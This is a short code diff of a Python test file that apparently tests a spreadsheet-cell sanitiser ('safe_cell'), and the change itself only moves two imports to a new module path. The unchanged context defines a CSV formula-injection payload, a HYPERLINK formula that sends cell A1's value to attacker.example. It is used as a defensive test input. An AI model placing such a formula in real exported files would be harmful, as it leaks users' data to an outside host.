@@ -9,8 +9,8 @@ from pathlib import Path
 import pytest
 from tests.disclosure.disclosure_helpers import CREATED, SIGNER, sha
 
-from dhakira.disclosure import PackageBuilder, parse_dat
-from dhakira.disclosure.cells import safe_cell
+from dhakira.core.handover import PackageBuilder, parse_dat
+from dhakira.core.handover.cells import safe_cell
 
 ATTACK = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
 
